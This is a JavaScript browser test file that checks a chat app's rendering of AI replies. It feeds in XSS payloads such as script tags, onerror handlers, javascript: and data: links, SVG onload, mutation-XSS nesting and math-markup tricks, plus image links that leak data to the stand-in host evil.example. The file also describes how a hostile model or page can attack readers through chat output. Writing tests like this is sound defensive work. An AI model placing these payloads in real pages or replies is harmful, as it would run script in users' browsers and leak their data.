// What a hostile model, or a page that it has read, may write: in a real browser no script runs and nothing is sent
// elsewhere, while the reply streams in, when it is stored, and in search results. (Diagrams: ../diagram.test.mjs.)
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { play } from '../../support/model.mjs';
import { baseUrl, becomes, launch, newSession, newVisitor, register, replies, replyEnded, send, sessionIdOf } from '../browser.mjs';
import { call, tokenOf } from '../seed.mjs';
import { callsTo, says, thinks } from './scripts.mjs';

const evil = 'https://evil.example';
const classes = {
  html: [
    '<script>window.ran = 1</script><img src=x onerror="window.ran = 2"><body onload="window.ran = 3">',
    `<iframe src="${evil}/f" srcdoc="<script>parent.ran = 4</script>"></iframe><object data="${evil}/o"></object><embed src="${evil}/e">`,
    `<form action="${evil}/form"><input autofocus onfocus="window.ran = 5"><button formaction="javascript:window.ran = 6">x</button></form>`,
    `<link rel="stylesheet" href="${evil}/l.css"><style>@import "${evil}/s.css"; body { background: url(${evil}/bg) }</style>`,
    `<div style="background: url(${evil}/inline)">x</div><meta http-equiv="refresh" content="0; url=${evil}/meta"><base href="${evil}/">`,
    `<details open ontoggle="window.ran = 7"><summary>x</summary></details><video src="${evil}/v" autoplay onloadstart="window.ran = 8"></video>`,
    `<a href="${evil}/ping" ping="${evil}/p">x</a> <math><mtext><table><mglyph><style><img src=x onerror="window.ran = 9"></style></mglyph></table></mtext></math>`,
  ].join('\n\n'),
  svg: [
    '<svg onload="window.ran = 10"><script>window.ran = 11</script><animate onbegin="window.ran = 12" attributeName="x"/></svg>',
    `<svg><use href="${evil}/u.svg#x"/><image href="${evil}/i.png"/><foreignObject><iframe src="${evil}/fo"></iframe></foreignObject></svg>`,
    '![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50LnJhbj0xMyI+PC9zdmc+)',
  ].join('\n\n'),
  links: [
    '[a](javascript:window.ran=14) [b](JaVaScRiPt:window.ran=15) [c](java\tscript:window.ran=16) [d](&#106;avascript:window.ran=17)',
    '[e](data:text/html,<script>window.ran=18</script>) [f](vbscript:x) [g](blob:x) [h](file:///etc/passwd) [i](//evil.example/x) <javascript:window.ran=19>',
    '[j]: javascript:window.ran=20\n\n[j] and https://example.org/plain and [k](https://example.org/ "a \\" onmouseover=window.ran=21")',
  ].join('\n\n'),
  images: [
    `![a](${evil}/a.png?secret) ![b][ref] [![c](${evil}/c.png)](${evil}/d) ![d](//evil.example/d.png) ![e](/chat/api/auth/logout)`,
    `[ref]: ${evil}/ref.png\n\n<img src="${evil}/html.png" srcset="${evil}/set.png 2x"> ![f](<${evil}/f.png> "title")`,
  ].join('\n\n'),
  mathematics: [
    '$$\\href{javascript:window.ran=22}{x}$$ $$\\url{javascript:window.ran=23}$$',
    `$$\\includegraphics{${evil}/math.png}$$ $$\\htmlData{x=y}{z} \\htmlStyle{background:url(${evil}/style)}{z}$$`,
    '$$\\unicode{<img src=x onerror=window.ran=24>}$$ $$<img src=x onerror=window.ran=25>$$',
  ].join('\n\n'),
  code: '```html\n<script>window.ran = 26</script>\n```\n\n```"><img src=x onerror=window.ran=27>\nx\n```\n\n`<img src=x onerror=window.ran=28>`',
  notes: 'A note[^1] and a [link][x].\n\n[^1]: <img src=x onerror=window.ran=31>\n\n[x]: data:text/html,<script>window.ran=32</script>\n\n<!--<img src="--><img src=x onerror=window.ran=33>//">',
};

let browser;
let ada;
let page;
let dialogs = 0;

before(async () => {
  browser = await launch();
  ada = await newVisitor(browser);
  page = ada.page;
  page.on('dialog', (dialog) => {
    dialogs++;
    return dialog.dismiss();
  });
  await register(ada);
});
after(() => browser.close());

async function nothingHappened() {
  assert.equal(await page.evaluate(() => window.ran), undefined, 'a script ran');
  assert.equal(dialogs, 0);
  assert.deepEqual(ada.complaints, []);
  const inside = page.locator('article, nav, h1');
  assert.equal(await inside.locator('script, style, link, object, embed, form:not(.ours) [formaction], base, meta, audio, video, svg [href^="http"]').count(), 0);
  const addresses = (links) => links.evaluateAll((all) => all.map((link) => link.getAttribute('href')));
  for (const address of await addresses(page.locator('article a, h1 a'))) assert.match(address, /^(https?:|mailto:|#note_)/);
  // Only the server decides the address of a chat.
  for (const address of await addresses(page.locator('nav a'))) assert.match(address, /^\/chat\/s\/\d+(\?m=\d+)?$/);
  for (const address of await inside.locator('img').evaluateAll((images) => images.map((image) => image.getAttribute('src')))) assert.match(address, /^(data:image\/(?!svg)|blob:)/);
  assert.deepEqual(await inside.locator('*').evaluateAll((all) => all.flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith('on')))), []);
}

for (const [name, text] of Object.entries(classes)) {
  test(`${name}: nothing runs and nothing leaves, streamed letter by letter, stored, and written by the reader`, async () => {
    await newSession(page);
    const script = await play(says(...text, '\n\nThe end of it.'));
    await send(page, `${script.mark} ${text}`);
    await replies(page).last().getByText('The end of it.').waitFor({ timeout: 60_000 });
    await replyEnded(page);
    await nothingHappened();
    await page.reload();
    await replyEnded(page);
    await replies(page).last().getByText('The end of it.').waitFor();
    await page.waitForFunction(() => document.querySelector('.plain-text') === null);
    await nothingHappened();
  });
}

test('what tools and thoughts bring in is text', async () => {
  await newSession(page);
  const html = '<img src=x onerror="window.ran = 40"> [x](javascript:window.ran=41) ![y](https://evil.example/y.png)';
  const script = await play(callsTo(['probe', { key: 'hostile', answer: html }], ['run_weather', { city: html }]), thinks(html, 'Done with it.'));
  await send(page, `Use them ${script.mark}`);
  await page.getByText('Thinking…').waitFor();
  await script.open('thought');
  await replyEnded(page);
  for (const summary of await replies(page).last().locator('summary').all()) await summary.click();
  await replies(page).last().getByText('onerror').first().waitFor();
  await nothingHappened();
});

test('titles, names of files and hits are text', async () => {
  const html = '<img src=x onerror="window.ran = 50">';
  const token = await tokenOf(ada);
  await call('PATCH', `ai/sessions/${sessionIdOf(page)}`, token, { title: html });
  await page.locator('input[type=file]').setInputFiles([{ name: `${html.replaceAll('/', '')}.md`, mimeType: 'text/markdown', buffer: Buffer.from('x') }]);
  await page.getByRole('list', { name: 'Attached files' }).getByText('onerror').waitFor();
  await page.reload();
  await page.getByRole('heading', { level: 1 }).getByText('onerror').waitFor();
  await page.getByLabel('Search chats').fill('onerror');
  await page.getByRole('navigation', { name: 'Search results' }).getByRole('listitem').first().waitFor();
  await nothingHappened();
});

test('sources with a script for an address have none', async () => {
  await page.goto(baseUrl);
  await page.route('**/api/ai/chat', (route) => route.fulfill({
    contentType: 'text/event-stream',
    body: [
      { type: 'start', messageId: '1' },
      ...['javascript:window.ran=60', 'data:text/html,<script>window.ran=61</script>', 'https://example.org/'].map((url, n) => ({ type: 'source-url', sourceId: String(n), url, title: `Source ${n}` })),
      { type: 'file', mediaType: 'image/svg+xml', url: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=62"/>' },
      { type: 'file', mediaType: 'image/png', url: `${evil}/file.png` },
      { type: 'text-start', id: 't' }, { type: 'text-delta', id: 't', delta: 'So they say.' }, { type: 'text-end', id: 't' },
      { type: 'finish', finishReason: 'stop' },
    ].map((chunk) => `data: ${JSON.stringify(chunk)}\n\n`).join(''),
  }));
  await send(page, 'Who says so?');
  await page.getByRole('link', { name: 'Source 2' }).waitFor();
  await page.getByText('Source 0').waitFor();
  await becomes(() => page.getByRole('group', { name: 'Sources' }).getByRole('link').count(), 1);
  await nothingHappened();
});
